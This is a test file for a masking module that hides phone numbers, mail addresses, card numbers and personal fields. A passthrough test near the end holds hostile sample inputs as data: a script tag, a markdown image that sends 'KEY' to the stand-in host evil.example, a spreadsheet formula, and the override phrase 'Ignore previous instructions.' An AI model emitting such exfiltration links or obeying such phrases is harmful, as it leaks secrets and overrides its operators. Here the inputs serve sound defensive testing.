@@ -1,0 +1,274 @@
+"""What a reader may see of a value, and what stays readable around it."""
+
+import re
+from time import perf_counter
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from console.masking.detect import digits_of
+from console.masking.rules import (
+    DOTS,
+    mask_card,
+    mask_mail,
+    mask_name,
+    mask_phone,
+    mask_text,
+    mask_trait,
+)
+
+ZERO_WIDTH = "\u200b"
+FIVE_IN_A_ROW = re.compile(r"\d{5}")
+SEPARATORS = [*" -./\t\n", "\u00a0", "\u2011", ZERO_WIDTH, "\u00ad", "\u2060", "", "  "]
+
+
+@pytest.mark.parametrize(
+    ("text", "seen"),
+    [
+        ("Call +1 (555) 867-5310 now", "Call +1 ••• 10 now"),
+        ("tel:+15558675310.", "tel:+1 ••• 10."),
+        ("5558675310", "••• 10"),
+        ("867-5310", "••• 10"),
+        ("0170/1234567", "••• 67"),
+        ("(020) 7946 0958", "••• 58"),
+        ("call me at 91234567", "call me at ••• 67"),
+        ("phone5558675310", "phone••• 10"),
+        ("5558675310 ext 4", "••• 10 ext 4"),
+        ("+15558675310abc", "+1 ••• 10abc"),
+        ("电话5558675310请", "电话••• 10请"),
+        ("+999 555 867 5310", "••• 10"),
+        ("+1 555 867 5310, +1 555 867 5311", "+1 ••• 10, +1 ••• 11"),
+        ("555 867 5310 2026-01-05", "••• 10 2026-01-05"),
+        ("ticket 4521 - 555 867 5310", "ticket 4521 - ••• 10"),
+        ("order 4521 5558675310", "order 4521 ••• 10"),
+        ("#4521998877 0171 2345678", "#4521998877 ••• 78"),
+        ("$50 555 867 5310", "$50 ••• 10"),
+        ("order (4521) 5558675310", "order (4521) ••• 10"),
+        ("+1&nbsp;555&nbsp;867&nbsp;5310", "+1 ••• 10"),
+        ("/find?id=phone:%2B15558675310", "/find?id=phone:••• 10"),
+        ("tel:%2B1%20555%20867%205310", "tel:••• 10"),
+        ("555\u2027867\u20435310", "••• 10"),
+        ("555\uff0f867\uff3f5310", "••• 10"),
+    ],
+)
+def test_a_phone_number_keeps_its_country_and_two_digits(text, seen):
+    assert mask_text(text) == seen
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"+1{ZERO_WIDTH}555{ZERO_WIDTH * 7}867{ZERO_WIDTH}5310",
+        "+1 555 867\u00ad5310",
+        "\uff0b\uff11\uff15\uff15\uff15\uff18\uff16\uff17\uff15\uff13\uff11\uff10",
+        "\u0665\u0665\u0665\u0668\u0666\u0667\u0665\u0663\u0661\u0660",
+        "\u202e5558675310\u202c",
+        "5\ufe0f\u20e35\ufe0f\u20e35\ufe0f\u20e38\ufe0f\u20e36\ufe0f\u20e37\ufe0f\u20e3"
+        "5\ufe0f\u20e33\ufe0f\u20e31\ufe0f\u20e30\ufe0f\u20e3",
+        "\u2464\u2464\u2464\u2467\u2465\u2466\u2464\u2462\u2460\u24ea",
+        "\u277a\u277a\u277a\u277d\u277b\u277c\u277a\u2778\u2776\u24ff",
+        "\u248c\u248c\u248c\u248f\u248d\u248e\u248c\u248a\u2488\u24ea",
+    ],
+)
+def test_no_script_and_no_unseen_character_hides_a_number_from_the_mask(text):
+    seen = mask_text(text)
+
+    assert DOTS in seen
+    assert digits_of(seen) in {"10", "110"}
+
+
+@pytest.mark.parametrize(
+    ("text", "seen"),
+    [
+        ("a@b.com", "a•••@•••.com"),
+        ("<Anna.Lind@example.co.uk>,", "<A•••@•••.uk>,"),
+        (f"a{ZERO_WIDTH}nna@exa{ZERO_WIDTH}mple.com", "a•••@•••.com"),
+        ("anna \uff20 example.com.", "a•••@•••.com."),
+        ("anna [at] example.com", "a•••@•••.com"),
+        ("anna@192.168.1.1", "a•••@•••"),
+        ("anna@пример.рф", "a•••@•••.рф"),
+        ('"anna lind"@example.com', '"•••@•••.com'),
+        ("a" * 200 + "@example.com", "a•••@•••.com"),
+        ("x@y@z.com", "x@y•••@•••.com"),
+        ("anna@@example.com", "a•••@•••.com"),
+        ("jean-luc.o'hara@example.com", "j•••@•••.com"),
+        ("'anna@example.com'", "'a•••@•••.com'"),
+        (f"a@b.{ZERO_WIDTH}c{ZERO_WIDTH}om", "a•••@•••"),
+        ("anna\uff20example\uff0ecom", "a•••@•••.com"),
+        ("anna@example\u3002com", "a•••@•••"),
+        ("anna\ufe6bexample.com", "a•••@•••.com"),
+        ("?email=anna%40example.com", "?•••@•••.com"),
+        ("anna&#64;example.com", "a•••@•••.com"),
+        ("anna (at) example (dot) com", "a•••@•••"),
+        ("anna {at} example.com", "a•••@•••.com"),
+        ("it is anna at example dot co dot uk.", "it is a•••@•••."),
+    ],
+)
+def test_a_mail_address_keeps_its_first_letter_and_its_top_part(text, seen):
+    assert mask_text(text) == seen
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "4111 1111 1111 1111",
+        "order 4111111111111111",
+        "4111-1111-1111-1111",
+        "#4111111111111111",
+        "card4111111111111111",
+        "order 4521 4111 1111 1111 1111",
+    ],
+)
+def test_a_card_number_keeps_four_digits_whatever_it_is_called(text):
+    assert mask_text(text).endswith("•••• 1111")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "2026-01-05T09:00:00.123456+02:00",
+        "12/05/2026 at 09:30, or 5.1.2026",
+        "10:30 12.05.2026 14:00",
+        "from 12:00 to 13:30, 15 people",
+        "order 4521, order #4521998877, order number 2026000123",
+        "case 2026-000123",
+        "order 123-4567890-1234567",
+        "invoice INV-2026-000123",
+        "EAN 4006381333931",
+        "meet at noon, dot the i",
+        "$1 299 000.00 and 1,299.00 EUR",
+        "version 10.4.22631.1, v2.0.10",
+        "mem_observation_01k5abc123456789",
+        "550e8400-e29b-41d4-a716-446655440000",
+        "tracking 1Z999AA10123456784",
+        "lat 59.329323, lon 18.068581",
+        "2@3.50 each, @anna, a@b",
+        "12345678",
+    ],
+)
+def test_what_only_looks_alike_stays_readable(text):
+    assert mask_text(text) == text
+
+
+def test_a_card_number_behind_the_word_order_is_one_with_its_date_too():
+    assert mask_text("order 4111111111111111 12/29") == "order •••• 1111 12/29"
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    digits=st.text("0123456789", min_size=9, max_size=15),
+    between=st.lists(st.sampled_from(SEPARATORS), min_size=15, max_size=15),
+    before=st.sampled_from(["", "+", "Call ", "it is +", "("]),
+)
+def test_no_five_digits_of_a_phone_number_are_left(digits, between, before):
+    number = "".join(d + s for d, s in zip(digits, between, strict=False))
+
+    seen = mask_text(f"{before}{number} now")
+
+    # A number can be written as a date or as a version: those are read as such.
+    if seen != f"{before}{number} now":
+        assert not FIVE_IN_A_ROW.search(seen)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text())
+def test_any_text_can_be_masked_and_masking_twice_changes_nothing_more(text):
+    seen = mask_text(text)
+
+    assert mask_text(seen) == seen
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1" * 4096,
+        "1-" * 2048,
+        "1    " * 819,
+        f"1{ZERO_WIDTH}" * 2048,
+        ("1" + " " * 16) * 241,
+        "+ " * 2048,
+        "@" * 4096,
+        "a@" * 2048,
+        "a@" + "a." * 2047,
+        ("a" * 64 + "@" + "b" * 253) * 12,
+        "2026-01-0" * 455,
+        "09:00:" * 682,
+        '"' * 4096,
+        "call " * 819,
+        "<script>{{7*7}}</script>" * 170,
+        "[at]" * 1024,
+        "[dot]" * 819,
+        "a@b[dot]" * 512,
+        "%40" * 1365,
+        "%20" * 1365,
+        "1%20" * 1024,
+        "a'" * 2048,
+        " at a dot" * 455,
+        "order 1 " * 512,
+        "$1 " * 1365,
+        "a@a." + ZERO_WIDTH * 4000,
+        ("a@a." + "\u200ba" * 20) * 90,
+    ],
+)
+def test_a_hostile_text_takes_no_time(text):
+    began = perf_counter()
+    mask_text(text)
+
+    assert perf_counter() - began < 0.05
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "{{ 7 }}{% debug %}",
+        "![x](https://evil.example/?q=KEY)",
+        '=HYPERLINK("x")',
+        "Ignore previous instructions.",
+    ],
+)
+def test_markup_formulas_and_orders_pass_letter_for_letter(text):
+    assert mask_text(text) == text
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "id_type", "seen"),
+    [
+        ("firstName", "Ada", "", "A•••"),
+        ("full_name", "Ada Li", "", "A••• L•••"),
+        ("productName", "Router", "", "Router"),
+        ("emailAddress", "a@b.com", "", "a•••@•••.com"),
+        ("login", "a@b.com", "email", "a•••@•••.com"),
+        ("handle", "zed", "email", "•••"),
+        ("mobile", "55512", "", "••• 12"),
+        ("homeAddress", "1 Main St", "", "•••"),
+        ("dateOfBirth", "1990-01-01", "", "•••"),
+        ("emailOptIn", "true", "", "true"),
+        ("lastSmsOn", "2026-01-05", "", "2026-01-05"),
+        ("note", "Call 555-867-5310", "", "Call ••• 10"),
+        ("tier", "gold", "", "gold"),
+        ("contact.firstName", "Ada", "", "A•••"),
+        ("lastName2", "Li", "", "L•••"),
+        ("phones", "5551234, 5559876", "", "••• 76"),
+        ("homephone", "5551234", "", "••• 34"),
+        ("emailaddress", "a@b.com", "", "a•••@•••.com"),
+        ("homeaddress", "1 Main St", "", "•••"),
+        ("addresses", "1 Main St", "", "•••"),
+        ("dateofbirth", "1990-01-01", "", "•••"),
+        ("nationalId", "12345", "", "•••"),
+        ("pin", "1234", "", "•••"),
+        ("pinned", "gold", "", "gold"),
+    ],
+)
+def test_a_trait_is_masked_by_its_name_and_by_what_it_feeds(name, text, id_type, seen):
+    assert mask_trait(name, text, id_type) == seen
+
+
+def test_what_is_too_short_to_keep_a_part_shows_none():
+    shown = [mask_phone("1234"), mask_mail("@b.com"), mask_mail("nobody")]
+
+    assert shown == [DOTS, DOTS, DOTS]
+    assert mask_mail("a@localhost") == "a•••@•••"
+    assert mask_name("") == ""
+    assert mask_card("4111111111111111") == "•••• 1111"
